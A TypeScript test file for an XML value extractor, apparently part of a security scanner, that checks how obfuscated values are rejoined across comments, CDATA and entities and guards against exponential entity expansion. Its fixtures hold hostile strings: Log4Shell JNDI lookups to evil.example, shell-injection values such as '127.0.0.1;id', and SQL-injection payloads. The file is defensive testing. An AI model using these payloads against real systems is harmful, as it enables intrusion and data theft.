import assert from 'node:assert/strict';
import { test } from 'node:test';
import { xmlValues } from './xml.ts';

/** CPU ms since `t0`: these are guards against superlinear shapes (each took 0.5 s to minutes), not speed targets,
 * and CPU time is what a busy machine (a CI run beside them) disturbs least. */
const cpuMs = (t0: NodeJS.CpuUsage): number => {
  const d = process.cpuUsage(t0);
  return (d.user + d.system) / 1000;
};

const paths = (xml: string): [string, string][] => xmlValues(xml, 1024).values.map((v) => [v.path, v.value]);

test('values, attributes and CDATA as a parser reads them', () => {
  const xml =
    '<?xml version="1.0"?><s:Env xmlns:s="x"><s:Body><Login a="1>2"><User>jane</User><Password>p&gt;w</Password>' +
    '<!-- note --><Note><![CDATA[<b>hi</b>]]></Note></Login></s:Body></s:Env>';
  assert.deepEqual(paths(xml), [
    ['Env.Body.Login.@a', '1>2'],
    ['Env.Body.Login.User', 'jane'],
    ['Env.Body.Login.Password', 'p&gt;w'],
    ['Env.Body.Login.Note', '<b>hi</b>'],
  ]);
});

test('a processing instruction, a quoted > or a Unicode name does not open or end a tag early (two reviews)', () => {
  assert.deepEqual(paths('<r><host><?pi x><password>?>127.0.0.1;id</host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host><password ü=">"/>127.0.0.1;id<password ü="/>"></password></host></r>'), [
    ['r.host.password.@ü', '>'],
    ['r.host.password.@ü', '/>'],
    ['r.host', '127.0.0.1;id'],
  ]);
  assert.deepEqual(paths('<login größe="1" password="$(a>b)"/>'), [['login.@größe', '1'], ['login.@password', '$(a>b)']]);
  assert.deepEqual(paths('<login><名前>ボブ</名前></login>'), [['login.名前', 'ボブ']]);
});

test("an element's own text is joined across comments, instructions, CDATA and children (a ninth review)", () => {
  assert.deepEqual(paths('<r><name>${jn<!---->di:ldap://evil.example/a}</name></r>'), [['r.name', '${jndi:ldap://evil.example/a}']]);
  assert.deepEqual(paths('<r><host>127.0.0.1;<![CDATA[id]]></host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host>127.0.0.1;<?a?>id</host></r>'), [['r.host', '127.0.0.1;id']]);
  assert.deepEqual(paths('<r><host>127.0.0.1<b/>;id</host></r>'), [['r.host', '127.0.0.1;id']]);
});

test('mixed content is also read whole; secrets are marked on every value that holds their text', () => {
  const isSecret = (name: string): boolean => name.toLowerCase() === 'password';
  const r = xmlValues("<r><q>1' UNION <b>SELECT</b> password FROM users--</q></r>", 1024, isSecret);
  assert.deepEqual(
    r.values.map((v) => [v.path, v.value]),
    [['r.q.b', 'SELECT'], ['r.q', "1' UNION  password FROM users--"], ['r.q', "1' UNION SELECT password FROM users--"]],
  );
  // A record's fields are not joined: a login's user and password stay two values.
  assert.deepEqual(paths('<Login><User>jane</User><Password>pw</Password></Login>'), [['Login.User', 'jane'], ['Login.Password', 'pw']]);
  // Inside a password element, in a mixed parent joining it, in a password attribute (a thirteenth review: a
  // child of <Password> was recorded).
  const secret = (xml: string) => xmlValues(xml, 1024, isSecret).values.map((v) => [v.path, v.secret === true]);
  assert.deepEqual(secret('<Login>user jane<Password><v>Xy9</v></Password></Login>'), [
    ['Login.Password.v', true],
    ['Login', false],
    ['Login', true],
  ]);
  assert.deepEqual(secret('<l user="a" password="b"/>'), [['l.@user', false], ['l.@password', true]]);
});

test('plain internal entities are substituted once; nested, markup and DTD-internal uses are reported', () => {
  const read = (xml: string) => {
    const r = xmlValues(xml, 1024);
    return [r.values.map((v) => v.value), r.internalEntity];
  };
  assert.deepEqual(read('<!DOCTYPE r [<!ENTITY j "jn">]><r><q>${&j;di:ldap://evil.example/a}</q></r>'), [['${jndi:ldap://evil.example/a}'], undefined]);
  // Split at a space (a fourteenth review: nothing reported it when only glued references counted).
  assert.deepEqual(read('<!DOCTYPE r [<!ENTITY a "SELECT password FROM users--">]><r><q>1\' UNION &a;</q></r>'), [["1' UNION SELECT password FROM users--"], undefined]);
  // Built of plain ones: resolved too. Holding markup: the parser's job, reported.
  assert.deepEqual(read('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>'), [['${jndi:ldap://x/a}'], undefined]);
  assert.equal(read('<!DOCTYPE r [<!ENTITY j "jn<!---->di">]><r>${&j;:ldap://x/a}</r>')[1], 'j');
  // A `]` in a comment, an instruction or a quoted value does not end the subset (a thirteenth review).
  for (const trick of ['<!-- ]><x> -->', '<?pi ]><x>?>', '<!ENTITY z "]><x>">'])
    assert.deepEqual(read(`<!DOCTYPE r [${trick}<!ENTITY j "jn">]><r><q>\${&j;di:x}</q></r>`)[0], ['${jndi:x}'], trick);
  // An attribute default built of one.
  assert.equal(read('<!DOCTYPE r [<!ENTITY j "jn"><!ATTLIST q v CDATA "${&j;di:ldap://x/a}">]><r><q/></r>')[1], 'j');
  // DocBook and Illustrator: substituted, nothing reported.
  assert.deepEqual(read('<!DOCTYPE b [<!ENTITY product "Portcullis"><!ENTITY ver "2.1">]><b>&product;&#x2019;s v&ver; docs</b>'), [['Portcullis&#x2019;s v2.1 docs'], undefined]);
  assert.equal(read('<!DOCTYPE svg [<!ENTITY st0 "fill:none;">]><svg><rect style="&st0;stroke:#000"/></svg>')[1], undefined);
  assert.equal(read('<r>Tom &amp; Jerry</r>')[1], undefined);
  // A fifteenth review: a decoy declaration in a comment, an instruction or a quoted value does not bind the name;
  // character references, the other quote and entities built of plain ones are plain too.
  for (const decoy of ['<!--<!ENTITY j "zz">-->', '<?x <!ENTITY j "zz">?>', '<!ENTITY b "<!ENTITY j \'zz\'>">'])
    assert.deepEqual(read(`<!DOCTYPE r [${decoy}<!ENTITY j "jn">]><r><q>\${&j;di:x}</q></r>`)[0], ['${jndi:x}'], decoy);
  assert.deepEqual(
    read(`<!DOCTYPE b [<!ENTITY nbsp "&#160;"><!ENTITY pub "O'Reilly Media"><!ENTITY product "Portcullis"><!ENTITY title "&product; Guide">]><b>&title;&nbsp;by &pub;</b>`),
    [["Portcullis Guide&#160;by O'Reilly Media"], undefined],
  );
});

test('entity resolution is remembered and bounded; markup made by character references is not plain (a sixteenth review)', () => {
  const shapes = [
    `<!DOCTYPE r [<!ENTITY a "${'&a;'.repeat(30)}">]><r>hi &a;</r>`,
    `<!DOCTYPE r [<!ENTITY e "x"><!ENTITY d "${'&e;'.repeat(40)}"><!ENTITY c "${'&d;'.repeat(40)}"><!ENTITY b "${'&c;'.repeat(40)}"><!ENTITY a "${'&b;'.repeat(40)}">]><r>&a;</r>`,
    `<!DOCTYPE r [<!ENTITY c "xy"><!ENTITY b "${'&c;'.repeat(3000)}"><!ENTITY a "${'&b;'.repeat(3000)}">]><r>&a;</r>`,
  ];
  for (const xml of shapes) {
    const t0 = process.cpuUsage();
    const r = xmlValues(xml, 1024);
    // A guard against exponential resolution (7 s on 128 bytes), not a speed target.
    assert.ok(cpuMs(t0) < 150, xml.slice(0, 40));
    assert.equal(r.internalEntity, 'a');
  }
  assert.equal(xmlValues('<!DOCTYPE r [<!ENTITY j "jn&#60;!---->di">]><r>${&j;:ldap://x/a}</r>', 1024).internalEntity, 'j');
  assert.equal(xmlValues('<!DOCTYPE r [<!ENTITY nbsp "&#160;">]><r>a&nbsp;b</r>', 1024).internalEntity, undefined);
});

test('XML-RPC and field-style names mark the value they name as secret (a fourteenth review)', () => {
  const isSecret = (name: string): boolean => name.toLowerCase() === 'password';
  const secret = (xml: string) => xmlValues(xml, 1024, isSecret).values.filter((v) => v.secret === true).map((v) => v.value);
  assert.deepEqual(secret("<member><name>password</name><value><string>Tr0ub4dor' OR 'x'='x</string></value></member>"), ["Tr0ub4dor' OR 'x'='x"]);
  assert.deepEqual(secret('<form><field name="password">hunter2</field><field name="user">bob</field></form>'), ['hunter2']);
  // An attribute whose quote never closes is still read, and judged by its name (a seventeenth review).
  assert.deepEqual(secret(`<r password="Zq9' OR 1=1-- <script>`), ["Zq9' OR 1=1-- <script>"]);
  // Past 256 levels nothing is judged by name: all of it is kept out of the records (a sixteenth review).
  assert.deepEqual(secret(`<r>${'<a>'.repeat(257)}<Password>' OR '1'='1' --</Password>`), ["' OR '1'='1' --"]);
  // The naming attribute names the element's other attributes too (a fifteenth review: .NET appSettings).
  assert.deepEqual(secret(`<appSettings><add key="password" value="hunter2' OR '1'='1"/></appSettings>`), ["hunter2' OR '1'='1"]);
});

test('nesting past 256 elements is reported and read flat, cheaply (reviews 14 and 15)', () => {
  const t0 = process.cpuUsage();
  const r = xmlValues(`${'<a>'.repeat(43_000)}${'x<!---->'.repeat(255)}`, 1024);
  // A guard against the copy chain (0.5-0.9 s), not a speed target: 25 ms warm here, more on a first, cold run.
  assert.ok(cpuMs(t0) < 300);
  assert.equal(r.nestedTooDeep, true);
  // What follows the deep tags is still read (a payload after 257 open tags was not).
  const after = xmlValues(`<r>${'<a>'.repeat(257)}</r><q>1' UNION <!---->SELECT password FROM users--</q>`, 1024);
  assert.ok(after.values.some((v) => v.value === "1' UNION SELECT password FROM users--"), JSON.stringify(after.values));
  const t1 = process.cpuUsage();
  xmlValues(`${'<a>'.repeat(250)}${'x<!---->'.repeat(255)}${'</a>'.repeat(250)}`, 1024);
  assert.ok(cpuMs(t1) < 150);
});

test('text split finer than the joined spans is reported as cut, not silently read apart', () => {
  const r = xmlValues(`<r><q>\${jn<b>di:ldap://x/a}</b><c>${'a<!---->'.repeat(300)}</c></q></r>`, 1024);
  assert.equal(r.joinsCut, true);
});

test('deep long names with mixed content stay cheap (a thirteenth review: 992 ms on 25 KB)', () => {
  const n = 'n'.repeat(128);
  const xml = `${`<${n}>`.repeat(64)}${`${'<a>x'.repeat(250)}${'</a>'.repeat(250)}`.repeat(4)}${`</${n}>`.repeat(64)}`;
  const t0 = process.cpuUsage();
  xmlValues(xml, 1024, (name) => name === 'password');
  assert.ok(cpuMs(t0) < 300);
});

test('nested mixed content repeats no more than a budget of text (a twelfth review: 4.4 GB, out of memory)', () => {
  const xml = `<!DOCTYPE r [<!ENTITY a "${'A'.repeat(4096)}">]>${'<a>x'.repeat(100)}${'&a;'.repeat(40_000)}${'</a>'.repeat(100)}`;
  const t0 = process.cpuUsage();
  const r = xmlValues(xml, 1024);
  assert.ok(cpuMs(t0) < 600);
  assert.equal(r.joinsCut, true);
  assert.ok(r.values.reduce((n, v) => n + v.value.length, 0) < 3 * xml.length);
});

test('only namespace declarations are skipped among attributes (a tenth review: xmlnsCmd hid ;id)', () => {
  assert.deepEqual(paths('<r xmlns="a" xmlns:p="b"><x xmlnsCmd=";id"/></r>'), [['r.x.@xmlnsCmd', ';id']]);
});

test('malformed documents still give every value; long names in deep paths stay linear', () => {
  assert.deepEqual(paths('<a><b>x</a></b>'), [['a.b', 'x']]);
  assert.deepEqual(paths('<a>1 < 2</a>'), [['a', '1 < 2']]);
  const name = 'n'.repeat(1900);
  const xml = `${`<${name}>`.repeat(64)}${'a<!---->'.repeat(1100)}${`</${name}>`.repeat(64)}`;
  const t0 = process.cpuUsage();
  xmlValues(xml, 1024);
  // A ReDoS guard, not a speed target.
  assert.ok(cpuMs(t0) < 180);
});
